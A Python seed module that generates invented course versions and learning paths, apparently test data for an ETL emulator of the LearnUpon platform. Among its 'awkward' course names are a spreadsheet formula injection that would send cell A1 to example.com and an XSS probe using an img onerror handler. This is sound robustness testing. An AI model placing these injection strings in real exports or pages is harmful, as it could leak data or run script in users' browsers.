"""Invented courses in versions, and learning paths over them; enrollments are made elsewhere."""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import TYPE_CHECKING

from etl.emulator.seed.shape import Course, Path

if TYPE_CHECKING:
    import random

AWKWARD = (
    'Hygiene, "Basics" & Beyond',
    "First line\nSecond line",
    "Fire Safety \U0001f525\U0001f692",
    "Long title " + "about everything that there is to know " * 8,
    "#N/A",
    '=HYPERLINK("http://example.com/?x="&A1,"Click")',
    "<img src=x onerror=alert(1)>",
    "  Blanks around  ",
    "NULL",
    "+44 Calling abroad",
    "Überblick: Größe, Maß & Straße",
    "入門コース",
    "Crème brûlée; für; alle",
    "Windows\r\nline end",
    "Tab\tin the middle",
    "Sécurité informatique (décomposé: e\u0301)",
)
VERBS = ("Understanding", "Introduction to", "Mastering", "Refresher:", "Advanced", "Essentials of")
TOPICS = (
    "Data Protection", "Manual Handling", "Product Tour", "Customer Support", "Negotiation", "First Aid",
    "Anti-Bribery",
    "Cloud Basics",
    "Quality Audits", "Forklift Safety", "Onboarding", "Leadership", "Billing", "Export Rules",
)  # fmt: skip
PATH_NAMES = (
    "New Starters",
    'Managers, "Level 1"',
    "Partner Certification \U0001f3c6",
    "=Sales Path",
    "Kurs für Anfänger",
)


def stamp(moment: datetime) -> str:
    """LearnUpon's text form of a moment in UTC."""
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def courses(dice: random.Random, count: int, now: datetime, first_id: int, turn: int = 0) -> list[Course]:
    """At least `count` course versions: old, current, under revision and draft ones, one licensed, one deleted since.

    `turn` shifts the awkward names, so that two small portals have different ones.
    """
    made: list[Course] = []
    place = 0
    while len(made) < count:
        versions = dice.choice((1, 1, 1, 2, 3)) if place != 1 else 3
        name = _name(dice, place, turn)
        made += _versions(dice, place, name, versions, now, first_id + len(made))
        place += 1
    singles = [one for one in made if one.version == 1 and one.published_status_id == "published"]
    if len(singles) > 3:
        singles[-1].licensed = True
        singles[-2].deleted = True
    return made


def _name(dice: random.Random, place: int, turn: int) -> str:
    """Two awkward names for every plain one, as long as there are any."""
    awkward = place - (place + 1) // 3
    if place % 3 != 1 and awkward < len(AWKWARD):
        return AWKWARD[(awkward + turn) % len(AWKWARD)]
    return f"{dice.choice(VERBS)} {TOPICS[place % len(TOPICS)]}{'' if place < len(TOPICS) else f' {place}'}"


def _versions(dice: random.Random, place: int, name: str, count: int, now: datetime, first_id: int) -> list[Course]:
    scored = dice.random() < 0.6
    start = now - timedelta(days=dice.randint(500, 1500))
    made = []
    for version in range(1, count + 1):
        last = version == count
        state = "published" if last else "archived"
        published = stamp(start + timedelta(days=150 * (version - 1), seconds=dice.randint(0, 86_399)))
        made.append(Course(first_id + version - 1, first_id, version, name, state, published, scored))
    if place % 9 == 4:
        made[-1].published_status_id = "under_revision"
        draft = Course(first_id + count, first_id, count + 1, name, "draft", stamp(now), scored)
        made.append(draft)
    return made


def paths(dice: random.Random, count: int, known: list[Course], first_id: int) -> list[Path]:
    """Paths over some of the courses, older versions among them; the last is a draft, the one before has no course."""
    usable = [one for one in known if one.published_status_id != "draft" and not one.deleted]
    old = [one for one in usable if one.published_status_id == "archived"]
    made: list[Path] = []
    for place in range(count):
        chosen = dice.sample(usable, min(len(usable), dice.randint(3, 6)))
        if old and place % 2 == 0:
            chosen[0] = dice.choice(old)
        ids = list({one.source_id: one.id for one in chosen}.values())
        name = PATH_NAMES[place] if place < len(PATH_NAMES) else f"Path {place + 1}: {dice.choice(TOPICS)}"
        made.append(Path(first_id + place, name, ids))
    if count > 3:
        made[-1].published_status_id = "draft"
        made[-2].courses = []
    return made
